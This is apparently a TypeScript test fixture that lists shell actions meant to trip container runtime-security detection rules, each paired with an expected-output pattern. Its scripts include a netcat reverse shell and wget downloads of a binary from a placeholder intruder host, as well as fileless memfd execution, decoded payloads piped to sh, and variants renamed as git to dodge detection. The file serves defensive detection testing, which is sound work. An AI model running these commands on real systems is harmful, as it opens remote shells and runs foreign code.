/** Running what a build does not run. */
import { type Action, CALL, INTRUDER } from "./action.ts";

export const EXECUTION: readonly Action[] = [
  { name: "RunShellUntrusted", script: `httpd -e 'system {"/bin/bash"} "sh", "-c", "echo shell of \\$PPID; :"'`, shows: /^shell of \d+$/m },
  { name: "DbProgramSpawnedProcess", script: `mysqld -e 'system "/bin/ls", "/etc"'`, shows: /^passwd$/m },
  {
    name: "SystemUserInteractive",
    script: `perl -MPOSIX -e 'POSIX::setgid(1); POSIX::setuid(1); exec {"/bin/bash"} "bash", "-c", "id -u; tty"'`,
    shows: /^1\r?\n\/dev\/pts\/\d+/m,
    terminal: true,
    capabilities: ["SETUID", "SETGID"],
  },
  {
    name: "FilelessExecutionViaMemfdCreate",
    script: `perl -e '$n = "x"; $f = syscall ${CALL.memfd_create}, $n, 0; open M, ">&=", $f; open B, "/bin/busybox"; binmode $_ for M, B; local $/; print M <B>;
      close B; M->flush; exec {"/proc/self/fd/$f"} "readlink", "/proc/self/exe"'`,
    shows: /^\/memfd:x \(deleted\)$/m,
  },
  {
    name: "ExecutionFromDevShm",
    script: "cp /bin/busybox /dev/shm/x; /dev/shm/x echo ran; printf 'echo script of $0' > /dev/shm/y; sh /dev/shm/y",
    shows: /^script of \/dev\/shm\/y$/m,
  },
  {
    name: "DropAndExecuteNewBinaryInContainer",
    script: `wget -q -O /tmp/d http://${INTRUDER}/busybox; chmod 755 /tmp/d; (exec -a readlink /tmp/d /proc/self/exe)`,
    shows: /^\/(tmp\/d|usr\/bin\/git)$/m,
    // In the place of a program that builds run.
    renamed: `wget -q -O /usr/bin/git http://${INTRUDER}/busybox; chmod 755 /usr/bin/git; (exec -a readlink /usr/bin/git /proc/self/exe)`,
  },
  { name: "ContainerDriftDetectedChmod", script: "echo '#!/bin/sh' > /tmp/c; chmod 755 /tmp/c; ls -l /tmp/c", shows: /^-rwxr-xr-x.*\/tmp\/c/m },
  {
    name: "ContainerDriftDetectedOpenCreate",
    script: `perl -MFcntl -e 'umask 0; sysopen F, "/tmp/o", O_WRONLY | O_CREAT, 0755 or die'; ls -l /tmp/o`,
    shows: /^-rwxr-xr-x.*\/tmp\/o/m,
  },
  { name: "DecodingPayloadInContainer", script: "printf ZWNobyBkZWNvZGVkCg== | base64 -d | sh", shows: /^decoded$/m },
  { name: "LaunchPackageManagementProcessInContainer", script: "apt-get -c 'echo $BASH'", shows: /apt-get$/m },
  { name: "LaunchSuspiciousNetworkToolInContainer", script: `echo scan | nc -w 1 ${INTRUDER} 9`, shows: /answer from port 9/ },
  {
    name: "NetcatRemoteCodeExecutionInContainer",
    script: `nc ${INTRUDER} 4444 -e /bin/sh; sleep 1; cat /tmp/owned`,
    shows: /^owned by \d+$/m,
    renamed: `cp /bin/busybox /tmp/n; (exec -a nc /tmp/n ${INTRUDER} 4444 -e /bin/sh); sleep 1; cat /tmp/owned`,
  },
  {
    name: "LaunchRemoteFileCopyToolsInContainer",
    script: `rsync -c 'exec 3<>/dev/tcp/${INTRUDER}/873; echo files >&3; read a <&3; echo $a'`,
    shows: /answer from port 873/,
  },
  { name: "LaunchIngressRemoteFileCopyToolsInContainer", script: `wget -q -O - http://${INTRUDER}/`, shows: /answer from port 80/ },
  { name: "KubernetesClientToolLaunchedInContainer", script: "kubectl -c 'echo $BASH'", shows: /kubectl$/m },
  { name: "DebugfsLaunchedInPrivilegedContainer", script: "debugfs -c 'echo $BASH'", shows: /debugfs$/m },
  {
    name: "MountLaunchedInPrivilegedContainer",
    script: "mount -t tmpfs none /mnt && grep ' /mnt ' /proc/mounts",
    shows: /^none \/mnt tmpfs/m,
    capabilities: ["SYS_ADMIN"],
  },
  {
    name: "ProgramRunWithDisallowedHttpProxyEnv",
    script: `http_proxy=http://${INTRUDER}:8888 wget -q -O - http://packages.example/`,
    shows: /answer from port 8888/,
  },
  {
    name: "JavaProcessClassFileDownload",
    script: `cd /tmp; java -c 'exec 3<>/dev/tcp/${INTRUDER}/80; echo >&3; cat <&3 > Exploit.class'; cat Exploit.class`,
    shows: /answer from port 80/,
  },
];
